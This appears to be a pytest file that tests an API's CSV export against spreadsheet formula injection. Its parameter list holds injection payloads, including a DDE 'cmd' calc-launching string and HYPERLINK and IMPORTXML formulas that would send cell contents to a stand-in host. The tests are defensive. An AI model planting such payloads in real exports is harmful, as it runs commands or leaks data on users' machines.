"""CSV that a spreadsheet may open: no cell begins as a formula, and nothing else in the API writes CSV."""

import csv
import io
import re
from pathlib import Path

import pytest

from api import spreadsheet
from api.spreadsheet import DANGEROUS, csv_of

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "|calc",
    "%0a=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    '=HYPERLINK("https://exemple.org/?x="&A1,"x")',
    '=IMPORTXML(CONCAT("https://exemple.org/",A1),"//a")',
    '";=1',
    "a\n=1",
    "a\r\n=1;=2",
    "\u00a0=1",
)


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_begins_as_a_formula(cell: str) -> None:
    text = csv_of(["a", "b"], [[cell, "x"]]).decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    assert header == ["a", "b"]
    assert len(rows) == 1, "no line of its own either"
    assert not rows[0][0].startswith(DANGEROUS)
    assert rows[0][1] == "x"


def test_all_csv_is_written_there() -> None:
    api = Path(spreadsheet.__file__).parent
    writers = [
        path.relative_to(api).as_posix()
        for path in api.rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)|\.to_csv\(", path.read_text())
    ]
    assert writers == ["spreadsheet.py"]
